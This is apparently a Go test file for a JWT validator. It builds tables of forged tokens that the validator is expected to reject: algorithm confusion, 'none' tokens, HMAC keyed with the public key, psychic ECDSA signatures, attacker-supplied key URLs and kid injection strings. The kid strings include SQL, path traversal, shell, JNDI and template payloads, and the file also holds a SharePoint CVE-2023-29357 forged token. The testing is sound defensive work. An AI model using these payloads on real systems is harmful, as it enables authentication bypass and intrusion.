package token

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"hash"
	"strings"
)

// alg in every dress (RFC 8725, 2.1, 3.1, 3.2; CVE-2015-9235, CVE-2015-2951,
// CVE-2016-5431; jwt_tool's -X a): the signature is a good RS256 one each time, so
// that nothing but the name speaks against the token. SharePoint's CVE-2023-29357
// was "none" as well, with a proof token's claims.
func algorithmAttacks(k *workshop) []attack {
	alg := func(text string) string { return k.header(`{"typ":"JWT","alg":` + text + `,"kid":"` + k.kid + `"}`) }
	k.w.wantGood(k.t, alg(`"RS256"`))
	k.w.wantGood(k.t, alg(`"\u0052S256"`))
	rows := k.rowsOf("alg is", ReasonAlgorithm, alg,
		`" RS256"`, `"RS256\t"`, `"RS256\n"`, `"RS256\u0000"`, `"RS256\u0000none"`, `"RS\u200b256"`, `"\ufeffRS256"`, `"Rs256"`, `"RS-256"`,
		`"ＲＳ256"`, `"R\u0405256"`, `"R\u017f256"`, `"RS２56"`, `"RS2５6"`, `"RS256,none"`, `"none,RS256"`, `"RS256 none"`, `"RSA256"`, `"RS1"`, `"RS256K"`,
		`"SHA256withRSA"`, `"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"`, `"PS384"`, `"PS512"`, `"ES384"`, `"ES512"`, `"ES256K"`, `"Ed25519"`,
		`"Ed448"`, `"ML-DSA-44"`, `"HS1"`, `"HS256/64"`, `"hs256"`, `"HmacSHA256"`, `"n\u043ene"`, `"n\u03bfne"`, `"none "`, `" none"`, `"none\u0000"`, `"NoNe"`,
		`"nonenone"`, `"null"`, `"false"`, `"undefined"`, `"0"`, `"unsecured"`, `"plaintext"`, `"RSA1_5"`, `"RSA-OAEP-256"`, `"A128KW"`, `"A256GCMKW"`, `"ECDH-ES"`,
		`"../RS256"`, `"RS256' OR '1'='1"`)
	rows = append(rows, k.rowsOf("alg of type", ReasonHeader, alg,
		`true`, `false`, `0`, `256`, `{}`, `[]`, `{"alg":"RS256"}`, `["RS256","none"]`, `["none"]`, `[[]]`, `"RS256`, `RS256`, `'RS256'`, `"\ud800"`, `1e400`)...)
	none := func(h, sig string) string { return b64(h) + "." + k.p + "." + sig }
	rows = append(rows,
		attack{"none with the old signature", none(`{"alg":"none","typ":"JWT","kid":"`+k.kid+`"}`, k.s), ReasonAlgorithm},
		attack{"none and no signature", none(`{"alg":"none","typ":"JWT","kid":"`+k.kid+`"}`, ""), ReasonAlgorithm},
		attack{"none without typ and kid", none(`{"alg":"none"}`, ""), ReasonAlgorithm},
		attack{"none, SharePoint's proof token", b64(`{"alg":"none"}`) + "." + b64(`{"iss":"00000003-0000-0ff1-ce00-000000000000","aud":"00000003-0000-0ff1-ce00-000000000000/x@y","nbf":"1673410334","exp":"1693410334","nameid":"c#.w|admin","ver":"hashedprooftoken","endpointurl":"qqlAJmTxpB9A67xSyZk+tmrrNmYClY/fqig7ceZNsSM=","isloopback":true}`) + ".", ReasonAlgorithm},
		attack{"no alg, no signature", none(`{"typ":"JWT","kid":"`+k.kid+`"}`, ""), ReasonAlgorithm},
		attack{"an empty header", k.header(`{}`), ReasonAlgorithm})
	return rows
}

// The public key in all forms that an attacker may guess as the HMAC secret
// (CVE-2016-10555, CVE-2024-33663, CVE-2024-37568, CVE-2024-54150), and the
// secrets that nobody set (CVE-2019-20933, CVE-2020-28637; jwt_tool's -X k, -X b).
func hmacAttacks(k *workshop) []attack {
	public := k.w.idp.PublicKey()
	spki, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		k.t.Fatal(err)
	}
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	inPEM := func(kind string, der []byte) string {
		return string(pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}))
	}
	jwk := k.w.goodJWK(nil)
	mac := func(alg string, h func() hash.Hash, secret string) string {
		head := b64(`{"typ":"JWT","alg":"`+alg+`","kid":"`+k.kid+`"}`) + "." + k.p
		m := hmac.New(h, []byte(secret))
		m.Write([]byte(head))
		return head + "." + b64(string(m.Sum(nil)))
	}
	var rows []attack
	for _, secret := range []struct{ name, value string }{
		{"SPKI in PEM", inPEM("PUBLIC KEY", spki)}, {"SPKI in PEM without its line break", strings.TrimSpace(inPEM("PUBLIC KEY", spki))},
		{"PKCS 1 in PEM", inPEM("RSA PUBLIC KEY", pkcs1)}, {"SPKI in DER", string(spki)}, {"PKCS 1 in DER", string(pkcs1)},
		{"the JWK", jwk}, {"the key set", `{"keys":[` + jwk + `]}`}, {"the modulus", string(public.N.Bytes())}, {"the modulus in base64url", b64(string(public.N.Bytes()))},
		{"empty", ""}, {"NUL", "\x00"}, {"the word null", "null"}, {"the word secret", "secret"}, {"the kid", k.kid}, {"the issuer", k.w.idp.Authority()},
	} {
		rows = append(rows, attack{"HS256, the secret is " + secret.name, mac("HS256", sha256.New, secret.value), ReasonAlgorithm})
	}
	rows = append(rows,
		attack{"HS384 with the public key", mac("HS384", sha512.New384, inPEM("PUBLIC KEY", spki)), ReasonAlgorithm},
		attack{"HS512 with the public key", mac("HS512", sha512.New, inPEM("PUBLIC KEY", spki)), ReasonAlgorithm},
		attack{"an HMAC that says RS256", mac("RS256", sha256.New, inPEM("PUBLIC KEY", spki)), ReasonSignatureForm},
		attack{"a hash alone, alg SHA256", mac("SHA256", sha256.New, ""), ReasonAlgorithm})
	return rows
}

// Elliptic curves where an RSA key is: "psychic signatures" (CVE-2022-21449: r and
// s zero, as bytes and as DER), r and s of the group's order, good signatures by
// the attacker's own key, and the same bytes where RS256 is said (RFC 8725, 3.4).
func curveAttacks(k *workshop) []attack {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		k.t.Fatal(err)
	}
	_, edward, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		k.t.Fatal(err)
	}
	head := func(alg string) string { return b64(`{"typ":"JWT","alg":"`+alg+`","kid":"`+k.kid+`"}`) + "." + k.p }
	sum := sha256.Sum256([]byte(head("ES256")))
	r, s, err := ecdsa.Sign(rand.Reader, key, sum[:])
	if err != nil {
		k.t.Fatal(err)
	}
	der, err := key.Sign(rand.Reader, sum[:], crypto.SHA256)
	if err != nil {
		k.t.Fatal(err)
	}
	order := string(elliptic.P256().Params().N.Bytes())
	zero := func(n int) string { return b64(string(make([]byte, n))) }
	rows := []attack{
		{"ES256 by the attacker's key", head("ES256") + "." + b64(string(r.FillBytes(make([]byte, 32)))+string(s.FillBytes(make([]byte, 32)))), ReasonAlgorithm},
		{"ES256 in DER", head("ES256") + "." + b64(string(der)), ReasonAlgorithm},
		{"EdDSA by the attacker's key", head("EdDSA") + "." + b64(string(ed25519.Sign(edward, []byte(head("EdDSA"))))), ReasonAlgorithm},
		{"psychic ES256", head("ES256") + "." + zero(64), ReasonAlgorithm},
		{"psychic ES384", head("ES384") + "." + zero(96), ReasonAlgorithm},
		{"psychic ES512", head("ES512") + "." + zero(132), ReasonAlgorithm},
		{"psychic in DER", head("ES256") + ".MAYCAQACAQA", ReasonAlgorithm},
		{"r and s the order", head("ES256") + "." + b64(order+order), ReasonAlgorithm},
		{"psychic, in DER, as RS256", head("RS256") + ".MAYCAQACAQA", ReasonSignatureForm},
	}
	for _, n := range []int{1, 32, 48, 64, 96, 114, 128, 132, 255} {
		rows = append(rows, attack{fmt.Sprintf("%d zero bytes as RS256", n), head("RS256") + "." + zero(n), ReasonSignatureForm})
	}
	for _, n := range []int{257, 384, 512} {
		rows = append(rows, attack{fmt.Sprintf("%d zero bytes as RS256", n), head("RS256") + "." + zero(n), ReasonSignature})
	}
	return rows
}

// The attacker signs and brings the key (CVE-2018-0114, jwt_tool's -X i and -X s),
// or says where it is: alone, beside a good kid, all at once, at places that a
// list of allowed hosts would let through.
func ownKeyAttacks(k *workshop) []attack {
	jwk := `"jwk":` + k.w.goodJWK(nil) // which key it is does not matter: it is not looked at
	cert := `"x5c":["MIIB"]`
	own := `"AttackerKey"`
	members := []struct{ name, text string }{
		{"jwk", jwk}, {"jku", `"jku":"https://evil.invalid/keys"`}, {"x5u", `"x5u":"https://evil.invalid/cert"`}, {"x5c", cert},
		{"x5t#S256", `"x5t#S256":"AAAA"`},
		{"jwk, jku, x5u and x5c", jwk + `,"jku":"https://evil.invalid/keys","x5u":"https://evil.invalid/cert",` + cert},
	}
	var rows []attack
	for _, m := range members {
		rows = append(rows,
			attack{m.name + " and a good kid", k.attacker(header(k.kid, m.text), k.claims), ReasonHeaderMember},
			attack{m.name + " and a kid of its own", k.attacker(`{"alg":"RS256","kid":`+own+`,`+m.text+`}`, k.claims), ReasonHeaderMember},
			attack{m.name + " without kid", k.attacker(`{"alg":"RS256",`+m.text+`}`, k.claims), ReasonHeaderMember},
			attack{m.name + " first in the header", k.attacker(`{`+m.text+`,"alg":"RS256","kid":`+own+`}`, k.claims), ReasonHeaderMember})
	}
	jku := func(v string) string { return k.attacker(header(k.kid, `"jku":`+k.quote(v)), k.claims) }
	keys := k.w.idp.Authority() + "/" + k.w.idp.TenantID() + "/discovery/v2.0/keys"
	rows = append(rows, k.rowsOf("jku", ReasonHeaderMember, jku,
		"", keys, keys+"/../../evil", strings.Replace(keys, "https://", "https://evil.invalid#@", 1), strings.Replace(keys, "https://", "https://evil.invalid\\@", 1),
		keys+"?redirect=https://evil.invalid", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:9001/", "file:///dev/null", "data:application/json,{}", "//evil.invalid")...)
	member := func(m string) string { return k.header(header(k.kid, m)) }
	rows = append(rows, k.rowsOf("member", ReasonHeaderMember, member,
		`"jwk":null`, `"jwk":{}`, `"jwk":"x"`, `"jku":null`, `"x5c":[]`, `"x5u":1`, `"X5T":"x"`, `"\u004bid":"x"`, `"\u212aid":"x"`, `"k\u0131d":"x"`, `"kid ":"x"`, `"kid\u0000":"x"`,
		`" alg":"none"`, `"a\u200blg":"none"`, `"ALG":"none"`, `"Alg":"none"`, `"algorithm":"none"`, `"key":"x"`, `"ppt":"x"`, `"cnf":{}`, `"aud":"x"`, `"sub":"x"`, `"exp":1`,
		`"__proto__":{"alg":"none"}`, `"constructor":"x"`)...)
	return rows
}

// crit names what must be understood (RFC 7515, 4.1.11); libraries passed over it
// (CVE-2025-59420, CVE-2026-32597, GHSA-hm7r-c7qw-ghp6). None is understood here.
func criticalAttacks(k *workshop) []attack {
	token := func(m string) string { return k.header(header(k.kid, m)) }
	return k.rowsOf("crit", ReasonHeaderMember, token,
		`"crit":["exp"]`, `"crit":["alg"]`, `"crit":["kid","kid"]`, `"crit":["not-there"]`, `"crit":["require-mfa"],"require-mfa":true`, `"crit":["cnf"],"cnf":{"jkt":"x"}`,
		`"crit":["http://example.com/unknown"],"http://example.com/unknown":true`, `"crit":"b64"`, `"crit":null`, `"crit":{}`, `"crit":[1]`, `"crit":["b64"],"b64":true`, `"CRIT":["x"]`, `"b64":true`)
}

// kid leads into a database, a file system, a shell, a template (PortSwigger,
// PayloadsAllTheThings, jwt_tool's -I), or is nearly the one that is there. The
// signature is the issuer's: a lookup that is lenient would accept these.
func keyIDAttacks(k *workshop) []attack {
	kid := k.kid
	token := func(v string) string { return k.header(`{"typ":"JWT","alg":"RS256","kid":` + k.quote(v) + `}`) }
	k.w.wantGood(k.t, token(kid))
	rows := k.rowsOf("kid", ReasonKey, token,
		"x' OR '1'='1", "x' UNION SELECT 'key'--", "1; DROP TABLE keys--", `" OR ""="`, "' || '1", "*)(kid=*", "*", "%", "_", kid[:8]+"%", kid[:8]+"*",
		"/dev/null", "/proc/sys/kernel/randomize_va_space", "../../../../../etc/passwd", `..\..\..\windows\win.ini`, "....//....//etc/passwd", "file:///dev/null", "./"+kid, kid+"/", kid+"/.", "/"+kid, "%2e%2e%2fnull",
		"|sleep 10", "$(id)", "`id`", kid+";id", "& whoami", "${jndi:ldap://evil.invalid/a}", "{{7*7}}", "<%= 7*7 %>", "%s%s%n", "#{7*7}", "<script>alert(1)</script>",
		kid+"%00", "%00"+kid, kid+"?", kid+"#", kid+"=", kid+"==", `"`+kid+`"`, " "+kid, kid+kid, kid[1:], kid[:len(kid)-1], strings.ToLower(kid), "0", "-1", "true", "null", "undefined", "NaN", "[]", "{}",
		"__proto__", "constructor", "hasOwnProperty", "toString", "keys[0]", "keys.0", "default", "key1", ".", "..", "http://127.0.0.1/", "//evil.invalid/"+kid, strings.Repeat("k", maxKeyIDBytes), k.w.goodJWK(nil)[:200])
	rows = append(rows, k.rowsOf("kid unprintable", ReasonKeyID, token,
		kid+"\x00", "\x00"+kid, kid+"\x00.pem", "../../dev/null\x00", kid+"\r\nX: y", "\t"+kid, kid+"\x7f", kid+"\x1b[0m", kid+"\u0085", kid+"\u00a0", kid+"\u200b", "\ufeff"+kid, "\u202e"+kid, kid+"\u0301",
		"\uff41"+kid[1:], "\u0430"+kid[1:], kid+"\u2028", "\U0001f511", strings.Repeat("k", maxKeyIDBytes+1), strings.Repeat("../", 100), strings.Repeat("%00", 100))...)
	kidText := func(text string) string { return k.header(`{"typ":"JWT","alg":"RS256","kid":` + text + `}`) }
	rows = append(rows, k.rowsOf("kid of type", ReasonHeader, kidText,
		`["`+kid+`"]`, `{"kid":"`+kid+`"}`, `true`, `1.5`, `[]`, `"\ud800"`, `"`+kid+`\udfff"`, `"\udc00\ud800"`, `"\x41"`, `'`+kid+`'`)...)
	return append(rows,
		attack{"x5t in place of kid", k.header(`{"typ":"JWT","alg":"RS256","x5t":"` + kid + `"}`), ReasonKeyIDMissing},
		attack{"kid in the payload only", signed(k.t, k.w.idp, `{"typ":"JWT","alg":"RS256"}`, strings.Replace(k.claims, "{", `{"kid":"`+kid+`",`, 1)), ReasonKeyIDMissing},
		attack{"a token as kid", token(k.good), ReasonHeader})
}

// typ tells other kinds of JWT apart (RFC 8725, 2.8, 3.11): a registered type that
// is no access token, or nearly one that is.
func headerTypeAttacks(k *workshop) []attack {
	token := func(text string) string { return k.header(`{"typ":` + text + `,"alg":"RS256","kid":"` + k.kid + `"}`) }
	k.w.wantGood(k.t, token(`"JWT"`))
	rows := k.rowsOf("typ", ReasonType, token,
		`"id+jwt"`, `"rt+jwt"`, `"oauth-authz-req+jwt"`, `"client-authentication+jwt"`, `"token-introspection+jwt"`, `"oauth-client-attestation+jwt"`, `"kb+jwt"`, `"vc+sd-jwt"`, `"dc+sd-jwt"`,
		`"openid4vci-proof+jwt"`, `"entity-statement+jwt"`, `"statuslist+jwt"`, `"passport"`, `"application/dpop+jwt"`, `"application/secevent+jwt"`, `"application/json"`, `"application/application/jwt"`,
		`"JWS"`, `"JWE"`, `"JOSE+JSON"`, `"JWT "`, `" JWT"`, `"JWT\u0000"`, `"at+jwt;v=1"`, `"at+jwt2"`, `"at jwt"`, `"text/jwt"`, `"J\u0057T\u200b"`, `"ＪＷＴ"`, `"Refresh"`, `"pop"`, `"SAML"`)
	return append(rows, k.rowsOf("typ of type", ReasonHeader, token, `null`, `1`, `true`, `{}`, `["JWT","at+jwt"]`, `"\ud83d"`)...)
}
